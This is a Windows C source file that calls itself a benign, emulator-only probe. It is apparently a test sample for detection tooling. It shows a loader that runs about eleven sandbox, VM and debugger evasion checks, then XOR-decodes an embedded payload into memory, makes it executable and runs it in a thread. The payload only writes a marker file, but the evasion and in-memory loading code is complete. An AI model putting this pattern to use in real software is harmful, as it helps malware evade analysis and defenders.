/*
 * loader.c - probe: a loader that checks it is on a real desktop before it decodes its payload
 * (virtualization/sandbox evasion, T1497; benign, emulator-only; see ../../lineage-common/common.h).
 *
 * Each check, failed, ends the program with its own exit code; all passed, the payload (XOR 0x6b
 * in this program's data) is decoded into RW memory, made RX and run in a thread, and writes
 * C:\Users\Public\lineage_gate.txt. Checks, as loaders of 2023-2025 make them:
 *  10 uptime (GetTickCount64) under 10 minutes      11 fewer than 2 processors (GetSystemInfo)
 *  12 under 4 GiB of memory (GlobalMemoryStatusEx)  13 a system disk under 60 GB (GetDiskFreeSpaceExA)
 *  14 a user or computer name of a sandbox          15 a VirtualBox MAC prefix 08:00:27 (GetAdaptersInfo)
 *  16 a debugger (NtQueryInformationProcess ProcessDebugPort; IsDebuggerPresent)
 *  17 a parent process other than explorer.exe (CreateToolhelp32Snapshot)
 *  18 fewer than 3 recent documents (%APPDATA%\Microsoft\Windows\Recent)
 *  19 a screen under 1024x768 (GetSystemMetrics)     20 a VM's registry key (VBox Guest Additions)
 * Exit codes: 0 ok, 1 no marker, 3 memory, 4 thread, 10-20 a check failed.
 */
#include "common.h"
#include <iphlpapi.h>
#include <tlhelp32.h>

typedef LONG (NTAPI *NtQueryInformationProcess_t)(HANDLE, ULONG, PVOID, ULONG, PULONG);

#include "blobs.h" /* payload_enc[]: the payload XOR 0x6b */

static int lower_eq(const char *a, const char *b)
{
    for (; *a && *b; a++, b++) {
        char x = (*a >= 'A' && *a <= 'Z') ? *a + 32 : *a, y = (*b >= 'A' && *b <= 'Z') ? *b + 32 : *b;
        if (x != y)
            return 0;
    }
    return *a == *b;
}

static int contains_bad(const char *name)
{
    static const char *bad[] = {"sandbox", "malware", "virus", "sample", "john doe", "currentuser",
                                "wdagutilityaccount", "hapubws", "test", "maltest", "cuckoo"};
    unsigned i;
    for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
        if (lower_eq(name, bad[i]))
            return 1;
    return 0;
}

static void check(int failed, int code)
{
    if (failed)
        ExitProcess(code);
}

static int parent_is_explorer(void)
{
    PROCESSENTRY32 pe;
    DWORD self = GetCurrentProcessId(), parent = 0;
    HANDLE snap = CreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
    int ok = 0;
    if (snap == INVALID_HANDLE_VALUE)
        return 0;
    pe.dwSize = sizeof(pe);
    if (Process32First(snap, &pe))
        do
            if (pe.th32ProcessID == self)
                parent = pe.th32ParentProcessID;
        while (Process32Next(snap, &pe));
    pe.dwSize = sizeof(pe);
    if (parent && Process32First(snap, &pe))
        do
            if (pe.th32ProcessID == parent)
                ok = lower_eq(pe.szExeFile, "explorer.exe");
        while (Process32Next(snap, &pe));
    CloseHandle(snap);
    return ok;
}

static int recent_count(void)
{
    char path[MAX_PATH + 64];
    WIN32_FIND_DATAA fd;
    HANDLE h;
    DWORD n = GetEnvironmentVariableA("APPDATA", path, MAX_PATH);
    int count = 0;
    if (n == 0 || n >= MAX_PATH)
        return 0;
    copy_str(path + n, "\\Microsoft\\Windows\\Recent\\*", 40);
    h = FindFirstFileA(path, &fd);
    if (h == INVALID_HANDLE_VALUE)
        return 0;
    do
        if (fd.cFileName[0] != '.')
            count++;
    while (FindNextFileA(h, &fd));
    FindClose(h);
    return count;
}

void Entry(void)
{
    static struct sc_ctx ctx;
    static IP_ADAPTER_INFO adapters[8];
    SYSTEM_INFO si;
    MEMORYSTATUSEX ms;
    ULARGE_INTEGER avail, total, freeb;
    char name[MAX_PATH];
    DWORD n, i, old;
    ULONG size = sizeof(adapters);
    ULONG_PTR port = 0;
    HKEY key;
    NtQueryInformationProcess_t query;
    unsigned char *code;
    HANDLE thread;

    if (!marker_present())
        ExitProcess(1);
    check(GetTickCount64() < 10ULL * 60 * 1000, 10);
    GetSystemInfo(&si);
    check(si.dwNumberOfProcessors < 2, 11);
    ms.dwLength = sizeof(ms);
    check(!GlobalMemoryStatusEx(&ms) || ms.ullTotalPhys < 4ULL << 30, 12);
    check(!GetDiskFreeSpaceExA("C:\\", &avail, &total, &freeb) || total.QuadPart < 60ULL * 1000 * 1000 * 1000, 13);
    n = sizeof(name);
    check(!GetUserNameA(name, &n) || contains_bad(name), 14);
    n = sizeof(name);
    check(!GetComputerNameA(name, &n) || contains_bad(name), 14);
    if (GetAdaptersInfo(adapters, &size) == ERROR_SUCCESS) {
        IP_ADAPTER_INFO *a;
        for (a = adapters; a; a = a->Next)
            check(a->AddressLength >= 3 && a->Address[0] == 0x08 && a->Address[1] == 0x00 && a->Address[2] == 0x27, 15);
    }
    query = (NtQueryInformationProcess_t)(void *)GetProcAddress(GetModuleHandleA("ntdll.dll"), "NtQueryInformationProcess");
    check(!query || query(GetCurrentProcess(), 7 /* ProcessDebugPort */, &port, sizeof(port), 0) != 0 || port != 0, 16);
    check(IsDebuggerPresent(), 16);
    check(!parent_is_explorer(), 17);
    check(recent_count() < 3, 18);
    check(GetSystemMetrics(SM_CXSCREEN) < 1024 || GetSystemMetrics(SM_CYSCREEN) < 768, 19);
    if (RegOpenKeyExA(HKEY_LOCAL_MACHINE, "SOFTWARE\\Oracle\\VirtualBox Guest Additions", 0, KEY_READ, &key) == ERROR_SUCCESS)
        ExitProcess(20);

    code = (unsigned char *)VirtualAlloc(0, sizeof(payload_enc), MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!code)
        ExitProcess(3);
    for (i = 0; i < sizeof(payload_enc); i++)
        code[i] = payload_enc[i] ^ 0x6b;
    if (!VirtualProtect(code, sizeof(payload_enc), PAGE_EXECUTE_READ, &old))
        ExitProcess(3);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_gate.txt", "every sandbox check passed\n");
    thread = CreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)code, &ctx, 0, 0);
    if (!thread)
        ExitProcess(4);
    WaitForSingleObject(thread, INFINITE);
    ExitProcess(0);
}
